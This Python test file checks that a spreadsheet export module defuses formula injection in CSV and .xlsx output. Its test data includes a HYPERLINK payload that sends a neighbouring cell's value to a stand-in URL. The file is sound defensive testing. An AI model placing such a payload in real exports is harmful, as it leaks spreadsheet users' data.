"""The one export writer (gridgov/spreadsheets.py) defuses formula injection (issue 13, defect 2): text that a
spreadsheet would run — beginning with = + - @, a tab or a carriage return — gets a leading ', in CSV and .xlsx
alike; in .xlsx every text cell is a string cell, never a formula. Expected cells are written out by hand."""

import csv
import io

import pytest
from openpyxl import load_workbook

from gridgov import spreadsheets

HYPERLINK = '=HYPERLINK("http://x?"&B2,"点击")'


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, '\'=HYPERLINK("http://x?"&B2,"点击")'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("王=伟", "王=伟"),        # only the first character matters
    ("-12.5", "-12.5"),        # a plain number is not a formula
    ("+8613800000000", "+8613800000000"),
    ("", ""),
    (42, 42),
    (-3, -3),
    (None, None),
])
def test_defuse(value, written):
    assert spreadsheets.defuse(value) == written


def test_csv_comes_out_inert():
    data, ctype = spreadsheets.write("csv", ["姓名", "楼层"], [[HYPERLINK, -2], ["@cmd", "3"]], "居民")
    assert ctype == "text/csv; charset=utf-8"
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["姓名", "楼层"], ['\'=HYPERLINK("http://x?"&B2,"点击")', "-2"], ["'@cmd", "3"]]


def test_xlsx_has_string_cells_never_formulas():
    data, ctype = spreadsheets.write("xlsx", ["姓名", "楼层"], [[HYPERLINK, -2], ["=1+1", 7.5]], "居民")
    assert ctype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    ws = load_workbook(io.BytesIO(data))["居民"]
    name, floor = ws["A2"], ws["B2"]
    assert name.data_type == "s" and name.value == '\'=HYPERLINK("http://x?"&B2,"点击")'
    assert floor.data_type == "n" and floor.value == -2
    assert ws["A3"].data_type == "s" and ws["A3"].value == "'=1+1"
    assert ws["B3"].value == 7.5
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    data, _ = spreadsheets.write("xlsx", ["姓名"], [["王\x00伟\x1f"]], "居民")
    assert load_workbook(io.BytesIO(data))["居民"]["A2"].value == "王伟"


def test_another_format_is_refused():
    with pytest.raises(ValueError):
        spreadsheets.write("ods", ["a"], [])
